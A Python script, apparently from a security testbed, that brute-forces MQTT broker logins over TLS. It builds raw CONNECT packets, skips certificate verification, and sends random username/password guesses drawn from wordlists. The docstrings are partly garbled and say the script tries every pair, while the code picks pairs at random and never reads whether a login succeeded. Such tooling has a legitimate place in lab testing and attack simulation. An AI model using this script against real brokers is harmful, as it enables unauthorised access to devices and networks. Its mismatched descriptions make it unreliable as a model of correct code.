"""Guess passwords of an MQTT broker over TLS: a connection and a CONNECT packet (MQTT 3.1.1) for each pair."""

import contextlib
import socket
import ssl
import struct

from testbed.schedule import LISTS
from testbed.second_home.tools.bounds import arguments, rounds


def connect_packet(client: str, user: str, password: str) -> bytes:
    """A CONNECT packet with name and password, a clean session."""
    body = struct.pack("!H4sBBH", 4, b"MQTT", 4, 0xC2, 60)
    for text in (client, user, password):
        body += struct.pack("!H", len(text)) + text.encode()
    return bytes((0x10, len(body))) + body


def main() -> None:
    """Guess, --at-once connections beside each other being left to the broker's own limit: one after the other."""
    options = arguments(__doc__)
    context = ssl._create_unverified_context()
    users, passwords = ((LISTS / name).read_text().split() for name in ("users.txt", "passwords.txt"))
    for draw in rounds(options):
        with contextlib.suppress(OSError):
            plain = socket.create_connection((options.target, 8883), timeout=4)
            with context.wrap_socket(plain) as talking:
                pair = draw.choice(users), draw.choice(passwords)
                talking.sendall(connect_packet(f"m{draw.randrange(10**6)}", *pair))
                talking.recv(4)  # CONNACK, which says 5: not authorised


if __name__ == "__main__":
    main()
